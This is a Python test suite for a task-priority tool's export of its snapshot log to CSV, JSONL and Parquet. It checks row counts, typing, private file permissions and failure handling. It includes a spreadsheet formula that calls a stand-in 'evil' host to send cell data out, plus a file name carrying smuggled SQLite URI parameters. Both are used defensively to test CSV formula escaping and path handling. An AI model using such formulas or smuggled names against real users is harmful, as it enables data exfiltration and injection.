"""Exports are whole, flat, safe to open, and never in the way of what is there."""

import csv
import inspect
import json
import re
import stat
import sys
from pathlib import Path

import pytest
from pyarrow import parquet
from sqlmodel import func, select

from smoothtask.model.classes import PriorityClass
from smoothtask.store import tables
from smoothtask.store.export import JSON_COLUMNS, TABLES, Format, export
from smoothtask.store.labels import read_labels
from smoothtask.store.reading import StoreError, open_for_reading
from smoothtask.store.tables import SnapshotRow
from store.conftest import Place
from store.frames import BUSY, FIREFOX, NOON, frame, group, process, shown

FORMULA = '=HYPERLINK("http://evil/"&A1)'


@pytest.fixture
def full(place: Place) -> Place:
    """A log with 25 snapshots and two labels."""
    log = place.log()
    for n in range(1, 26):
        groups = (shown(group("proc:1-1", FIREFOX)), shown(group("proc:2-2", cpu=0.9)))
        runs = (process(1, "proc:1-1", command=FORMULA), process(2, "gone", nice=-5))
        log.offer(frame(n, *groups, contention=BUSY, processes=runs))
    last = frame(26, shown(group("proc:1-1", FIREFOX)))
    log.add_label(last, 1000, group=last.groups[0], target=PriorityClass.INTERACTIVE)
    log.add_label(last, 0, verdict="laggy")
    return place


def lines(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_every_table_in_every_format_has_the_same_rows(full: Place, tmp_path: Path) -> None:
    """While the log is open for recording; files are private."""
    counts = {"snapshot": 26, "app_group": 27, "decision": 27, "process": 50, "label": 2}
    out = tmp_path / "out"
    for kind in ("csv", "jsonl", "parquet"):
        made = export(full.path, out, kind)
        assert made == {out / f"{t}.{kind}": n for t, n in counts.items()}
    assert {f.name for f in out.iterdir()} == {f"{t}.{k}" for t in TABLES for k in ("csv", "jsonl", "parquet")}
    assert {stat.S_IMODE(f.stat().st_mode) for f in out.iterdir()} == {0o600}
    for table, count in counts.items():
        objects = lines(out / f"{table}.jsonl")
        frame_of = parquet.read_table(out / f"{table}.parquet")
        with (out / f"{table}.csv").open(newline="") as file:
            rows = list(csv.DictReader(file))
        assert len(objects) == frame_of.num_rows == len(rows) == count
        assert list(objects[0]) == frame_of.column_names == list(rows[0])


def test_rows_are_flat_and_typed(full: Place, tmp_path: Path) -> None:
    """A group's row says what the group is; a process in no group known keeps its row; lists are lists."""
    export(full.path, tmp_path, "jsonl")
    group_row = lines(tmp_path / "app_group.jsonl")[0]
    assert (group_row["app"], group_row["tags"], group_row["time_s"]) == ("firefox", ["browser", "gui"], NOON + 1)
    assert group_row["rule_certain"] is False
    processes = lines(tmp_path / "process.jsonl")
    assert [(p["pid"], p["app"], p["nice"]) for p in processes[:2]] == [(1, "firefox", -5), (2, None, -5)]
    assert processes[0]["command"] == FORMULA
    decision = lines(tmp_path / "decision.jsonl")[0]
    assert decision["reasons"] == [
        {"stage": "default", "rule": "default", "text": "nothing asks for another class", "source": None}
    ]
    assert [(row["app"], row["verdict"]) for row in lines(tmp_path / "label.jsonl")] == [
        ("firefox", None),
        (None, "laggy"),
    ]
    export(full.path, tmp_path, "parquet", tables=("process", "snapshot"))
    schema = parquet.read_schema(tmp_path / "snapshot.parquet")
    types = {field.name: str(field.type) for field in schema}
    assert (types["cpu_mean_pct"], types["seq"], types["complete"], types["mode"]) == (
        "double",
        "int64",
        "bool",
        "string",
    )


def test_csv_holds_no_formula(full: Place, tmp_path: Path) -> None:
    """A spreadsheet would run a command line that starts with `=`; negative numbers stay numbers."""
    export(full.path, tmp_path, "csv", tables=("process",))
    with (tmp_path / "process.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows[0]["command"] == "'" + FORMULA
    assert rows[0]["nice"] == "-5"
    unsafe = [v for row in rows for v in row.values() if v[:1] in "=+-@\t\r" and v and not v[1:2].isdigit()]
    assert unsafe == []


def test_a_time_span_is_half_open(full: Place, tmp_path: Path) -> None:
    """`since` is in, `until` is out, for every table."""
    made = export(full.path, tmp_path, "csv", since=NOON + 5, until=NOON + 8)
    assert list(made.values()) == [3, 3, 3, 6, 0]


def test_nothing_is_overwritten_without_force(full: Place, tmp_path: Path) -> None:
    """And then nothing else is written either."""
    (tmp_path / "process.csv").write_text("mine")
    with pytest.raises(StoreError, match=r"process\.csv: exists already; --force"):
        export(full.path, tmp_path, "csv")
    assert [f.name for f in tmp_path.iterdir() if f.is_file()] == ["process.csv"]
    export(full.path, tmp_path, "csv", force=True)
    assert (tmp_path / "process.csv").read_text() != "mine"


def test_a_failure_leaves_no_file(full: Place, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nor a draft."""
    real = export.__globals__["_query"]

    def fail(table: str, since: float | None, until: float | None) -> object:
        if table == "label":
            raise StoreError("here")
        return real(table, since, until)

    monkeypatch.setitem(export.__globals__, "_query", fail)
    with pytest.raises(StoreError, match="here"):
        export(full.path, tmp_path / "out", "csv")
    assert list((tmp_path / "out").iterdir()) == []


def test_parquet_without_pyarrow_says_what_to_install(
    full: Place, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """By the name of the extra."""
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(StoreError, match=r"smoothtask\[parquet\]"):
        export(full.path, tmp_path, "parquet")
    assert not list(tmp_path.glob("*.parquet"))


@pytest.mark.parametrize(("tables", "kind"), [(("nonsense",), "csv"), (("label",), "xlsx")])
def test_what_is_unknown_is_said(full: Place, tmp_path: Path, tables: tuple[str, ...], kind: Format) -> None:
    """With what would be known."""
    with pytest.raises(StoreError, match=r"cannot export (table 'nonsense': expected snapshot|format 'xlsx')"):
        export(full.path, tmp_path, kind, tables=tables)


def test_unreadable_logs_are_one_sentence(place: Place, tmp_path: Path) -> None:
    """None there, no database, another program's, damaged in the middle."""
    with pytest.raises(StoreError, match="there is no snapshot log"):
        export(place.path, tmp_path / "out", "csv")
    other = tmp_path / "other.db"
    other.write_bytes(b"no database at all, but long enough to be read as one" * 100)
    with pytest.raises(StoreError, match="cannot be read"):
        read_labels(other)
    log = place.log()
    for n in range(1, 200):
        log.offer(frame(n, contention=BUSY, processes=tuple(process(pid) for pid in range(1, 20))))
    log.close()
    content = bytearray(place.path.read_bytes())
    content[8192:] = b"\x55" * (len(content) - 8192)
    place.path.write_bytes(content)
    with pytest.raises(StoreError, match="cannot be read"):
        export(place.path, tmp_path / "out", "csv")
    assert not list((tmp_path / "out").iterdir())


def test_what_is_read_is_one_state(full: Place) -> None:
    """However much is recorded in between."""
    count = select(func.count()).select_from(SnapshotRow)
    with open_for_reading(full.path) as session:
        before = session.exec(count).one()
        full.logs[0].offer(frame(99, contention=BUSY))
        full.logs[0].flush()
        assert session.exec(count).one() == before
    with open_for_reading(full.path) as session:
        assert session.exec(count).one() == before + 1


def test_hostile_file_names(full: Place, tmp_path: Path) -> None:
    """What means something in a URI means nothing in a path."""
    strange = tmp_path / "a?mode=rw#%41 &.db"
    full.logs[0].close()
    strange.write_bytes(full.path.read_bytes())
    assert len(read_labels(strange)) == 2


def test_labels_read_newest_first(full: Place) -> None:
    """With the group that each is about."""
    moment, of_group = read_labels(full.path)
    assert (moment.verdict, moment.group_id, moment.uid) == ("laggy", None, 0)
    assert (of_group.app, of_group.target, of_group.uid) == ("firefox", PriorityClass.INTERACTIVE, 1000)
    assert of_group.snapshot_id == moment.snapshot_id
    assert read_labels(full.path, limit=1) == (moment,)


def test_every_column_of_json_is_known() -> None:
    """A column says so in its docstring."""
    text = inspect.getsource(tables)
    said = re.findall(r'^    (\w+): str.*\n    """JSON ', text, re.MULTILINE)
    assert set(said) == JSON_COLUMNS
